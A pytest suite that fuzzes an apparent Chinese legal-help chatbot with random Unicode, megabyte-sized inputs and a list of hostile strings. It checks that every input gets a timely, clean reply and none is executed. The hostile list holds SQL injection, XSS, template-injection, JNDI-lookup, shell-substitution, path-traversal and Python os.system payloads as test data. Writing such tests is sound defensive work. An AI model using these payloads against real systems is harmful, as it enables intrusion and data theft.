"""Whatever arrives, a reply leaves: no error, no long wait, and nothing of it is carried out."""

import random
import shutil
import time
from dataclasses import replace

import pytest
from builders import NOW, TODAY, index_of, knowledge_of
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bot.conversation import Knowledge, go_on, tell
from bot.messages import Choice, Reply, ReplyKind
from bot.questions import split
from bot.topics import Speaker, Topic, Topics
from knowledge.database import open_database
from knowledge.starter_files import load_dangers, load_faq, load_hotlines

LONGEST_WAIT = 0.5  # seconds
MANY = 10_000
SCRIPTS = (
    (0x00, 0x20), (0x20, 0x7F), (0x80, 0x250), (0x370, 0x530), (0x590, 0x700), (0x900, 0xE00),
    (0x200B, 0x2070), (0x2190, 0x2600), (0x3000, 0x3100), (0x3400, 0x9FFF), (0xAC00, 0xD7A4),
    (0xD800, 0xE000), (0xE000, 0xF8FF), (0xFE00, 0xFFFF), (0x1F300, 0x1FAFF), (0x20000, 0x2A6DF),
    (0xE0000, 0xE01F0),
)  # fmt: skip
WORDS = [
    "离婚",
    "工资",
    "怎么办",
    "那要多少钱",
    "第一个",
    "都不是",
    "还有",
    "另外",
    "如果对方不同意呢",
    "？",
    "。",
    "\n",
    "1.",
    "第二，",
    "帮我写起诉状",
    "我会判几年",
    "民法典第1077条",
    "天气",
    "着火了",
    "《》",
    "{",
    "}",
    "{town}",
    "{0}",
    "%s",
    "${x}",
    "{{7*7}}",
    "<b>",
    "'",
    '"',
    ";",
    "--",
    "\u202e",
    "\u200d",
    "\ufeff",
    "😀",
    "\x00",
    "第",
]
HOSTILE = (
    "'; DROP TABLE entry; --",
    "1' OR '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>离婚",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}",
    "{town.__class__.__mro__}{0}{}{title}",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%s%n%x",
    "$(touch /tmp/owned)`id`",
    "../../../../etc/passwd",
    "\u202e么办怎婚离\u202c",
    "离\u200d婚\ufe0f冷\u0301静期是多久",
    "👨‍👩‍👧‍👦👩🏽‍⚖️",
    "\x00\x01\x1b[31m离婚\x07",
    '=HYPERLINK("http://example.invalid")',
    "__import__('os').system('id')",
)
LARGE = (
    "离" * 1_000_000,
    "老板不给工资怎么办？" * 100_000,
    "第" * 1_000_000,
    "\u200b" * 1_000_000,
    "a" * 1_000_000,
    " \n" * 500_000,
    "他打我" * 330_000,
    "民法典第" + "九" * 1_000_000 + "条",
    "1. " * 330_000,
    "？" * 1_000_000,
    "，" * 1_000_000 + "怎么办",
)


@pytest.fixture(scope="module")
def knowledge(sqlite_template, tmp_path_factory) -> Knowledge:
    copied = shutil.copy(sqlite_template, tmp_path_factory.mktemp("bad") / "mingbai.db")
    database = open_database(f"sqlite:///{copied}")
    index = index_of(database, load_faq())
    database.close()
    hotlines = {line.number: line.name for line in load_hotlines()}
    return replace(knowledge_of(index), dangers=load_dangers(), hotlines=hotlines)


def sound(reply: Reply) -> bool:
    """Whether a reply can be shown: words in it, each button once, nothing invisible echoed."""
    labels = [choice.label for choice in reply.choices]
    visible = not any(mark in reply.text for mark in "\x00\x1b\u202e\u200d")
    reply.text.encode("utf-8")
    return bool(reply.text.strip()) and len(set(labels)) == len(labels) and visible


def talked(knowledge: Knowledge, text: str) -> tuple[Reply, Reply]:
    """Give what is told to a text alone, and after a question was answered."""
    alone = tell(text, knowledge, on=TODAY)
    divorce = knowledge.index.phrase("离婚冷静期要多久", on=TODAY)
    topic = Topic("离婚冷静期是多久？", divorce, (Choice("借条怎么写", "借条怎么写"),))
    return alone.reply, go_on(text, alone, topic, knowledge, on=TODAY).reply


def test_ten_thousand_random_strings_get_a_reply_each_in_time(knowledge):
    chance = random.Random(12348)
    talked(knowledge, "热身")
    calm = replace(knowledge, dangers=())  # listening for danger costs most; a part is enough
    for number in range(MANY):
        low, high = chance.choice(SCRIPTS)
        length = int(chance.expovariate(1 / 12))
        text = "".join(chr(chance.randrange(low, high)) for _ in range(length))
        if chance.random() < 0.3:
            text += chance.choice(WORDS)
        began = time.perf_counter()
        reply = tell(text, calm if number % 20 else knowledge, on=TODAY).reply
        assert time.perf_counter() - began < LONGEST_WAIT, repr(text)
        assert sound(reply), repr(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_only_text(knowledge, text):
    for reply in talked(knowledge, text):
        assert sound(reply)
        assert "49" not in reply.text
        assert "class" not in reply.text


@pytest.mark.parametrize("text", LARGE, ids=lambda text: repr(text[:8]))
def test_a_megabyte_is_answered_in_time(knowledge, text):
    talked(knowledge, "热身")
    began = time.perf_counter()
    reply = tell(text, knowledge, on=TODAY).reply
    assert time.perf_counter() - began < LONGEST_WAIT
    assert sound(reply)


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.one_of(st.sampled_from(WORDS), st.text(max_size=8)), max_size=14).map("".join))
@example("\ud800那要多少钱")
@example("第一个第一个")
@example("{title}怎么办？另外{number}呢？")
def test_any_text_is_answered_with_and_without_a_topic(knowledge, text):
    for reply in talked(knowledge, text):
        assert isinstance(reply.kind, ReplyKind)
        assert sound(reply)
        assert 0 <= reply.confidence <= 1


@given(st.lists(st.sampled_from(WORDS), max_size=12).map("".join))
def test_splitting_drops_no_word_that_was_said(text):
    kept = "".join(part.text for part in split(text))
    assert {"离婚", "工资", "天气"} & {w for w in WORDS if w in text} <= {
        w for w in WORDS if w in kept
    }


def test_no_more_conversations_are_remembered_than_there_is_room_for():
    topics = Topics(most=3)
    for number in range(10):
        topics.keep(Speaker("web", str(number), ""), Topic("问" * 5_000), now=NOW)
    kept = [topics.last(Speaker("web", str(number), ""), now=NOW) for number in range(10)]
    assert [topic is not None for topic in kept] == [False] * 7 + [True] * 3
    assert all(len(topic.question) <= 200 for topic in kept if topic)
